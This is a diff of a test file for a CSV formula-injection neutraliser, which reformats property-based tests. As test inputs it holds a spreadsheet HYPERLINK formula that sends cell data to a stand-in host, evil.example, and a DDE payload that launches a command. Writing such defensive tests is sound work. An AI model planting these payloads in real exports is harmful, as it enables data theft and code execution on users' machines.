@@ -7,7 +7,7 @@ const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
 describe('formula neutralisation (OWASP CSV injection)', () => {
   it.each([
     ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
-    ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
+    ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
     ['-2+3', "'-2+3"],
     ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
     ['\t=1+1', "'\t=1+1"],
@@ -21,11 +21,19 @@ describe('formula neutralisation (OWASP CSV injection)', () => {
 
   it('never leaves a trigger first, and reading back restores the text exactly', () => {
     fc.assert(
-      fc.property(fc.oneof(fc.string(), fc.tuple(fc.constantFrom('', "'"), fc.constantFrom(...TRIGGERS), fc.string()).map(([q, t, s]) => q + t + s)), (s) => {
-        const out = neutralize(s);
-        expect(isDangerous(out)).toBe(false);
-        expect(readBack(out)).toBe(s);
-      }),
+      fc.property(
+        fc.oneof(
+          fc.string(),
+          fc
+            .tuple(fc.constantFrom('', "'"), fc.constantFrom(...TRIGGERS), fc.string())
+            .map(([q, t, s]) => q + t + s),
+        ),
+        (s) => {
+          const out = neutralize(s);
+          expect(isDangerous(out)).toBe(false);
+          expect(readBack(out)).toBe(s);
+        },
+      ),
     );
   });
 });
